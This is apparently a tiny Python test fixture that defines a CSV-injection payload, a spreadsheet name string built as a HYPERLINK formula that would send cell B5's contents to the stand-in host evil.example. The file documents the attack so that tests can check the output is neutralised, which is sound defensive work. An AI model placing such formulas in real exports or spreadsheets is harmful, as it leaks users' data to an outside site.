"""What an attacker types into the register, for the tests that check it comes out harmless."""

# OWASP "CSV Injection": a name that Excel would run as a formula sending the neighbouring cell to another site.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B5,"Bấm vào đây")'
